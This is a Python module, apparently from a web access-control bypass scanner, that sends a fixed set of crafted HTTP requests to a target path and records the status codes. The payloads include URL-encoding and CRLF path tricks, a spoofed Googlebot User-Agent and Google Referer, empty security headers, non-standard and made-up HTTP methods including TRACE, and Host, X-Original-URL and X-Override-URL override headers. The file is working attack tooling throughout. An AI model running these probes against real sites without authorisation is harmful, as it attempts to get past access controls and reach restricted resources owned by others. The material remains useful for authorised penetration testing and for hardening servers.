"""Bypass attempts using hand-picked special payloads."""

from __future__ import annotations

from typing import NamedTuple

from .client import HttpClient, RequestError
from .models import BypassConfig, ParsedURL, Result, parse_url

_GOOGLEBOT = "Googlebot/2.1 (+http://www.google.com/bot.html)"


class _Payload(NamedTuple):
    path: str
    method: str
    headers: dict[str, str]
    technique: str


def _payloads(parsed: ParsedURL) -> list[_Payload]:
    path = parsed.path
    return [
        _Payload(path + "?", "GET", {}, "Query Parameter Confusion"),
        _Payload(path + "#admin", "GET", {}, "URL Fragment Bypass"),
        _Payload(path + "%", "GET", {}, "URL Parsing Error"),
        _Payload(path + "%09", "GET", {}, "Tab Character"),
        _Payload(path + "%0d%0a", "GET", {}, "CRLF Injection"),
        _Payload(path, "GET",
                 {"Referer": "https://www.google.com/", "Connection": "close"},
                 "Search Engine Referrer"),
        _Payload(path, "GET", {"User-Agent": _GOOGLEBOT}, "Search Bot User-Agent"),
        _Payload(path, "GET", {"X-CSRF-Token": "", "X-API-Key": ""},
                 "Empty Security Headers"),
        _Payload(path + "/.", "GET", {}, "Path Dot Appending"),
        _Payload(path, "DEBUG", {}, "Non-standard HTTP Method"),
        _Payload(path, "JEFF", {}, "Made-up HTTP Method"),
        _Payload(path, "GET", {"Accept": "*/*.*"}, "Malformed Accept Header"),
        _Payload(path, "GET",
                 {"Host": parsed.host, "X-Forwarded-Host": "localhost"},
                 "Host Override"),
        _Payload(path, "TRACE", {}, "TRACE Method"),
        _Payload(path + "?" + parsed.raw_query + "&_=" + path, "GET", {},
                 "Cache Buster Parameter"),
        _Payload(path, "GET", {"X-Original-URL": "/", "X-Override-URL": "/"},
                 "Multiple URL Override Headers"),
    ]


def specialized_payloads(base_url: str, client: HttpClient,
                         config: BypassConfig) -> list[Result]:
    """Send each special payload; failed requests are left out.

    Raises URLParseError when the base URL cannot be parsed.
    """
    parsed = parse_url(base_url)
    results = []
    for payload in _payloads(parsed):
        url = str(parsed.with_path(payload.path))
        headers = {"User-Agent": config.user_agent, **payload.headers}
        try:
            code = client.status(payload.method, url, headers)
        except RequestError:
            continue
        results.append(Result(url, code, payload.method,
                              "Specialized: " + payload.technique))
    return results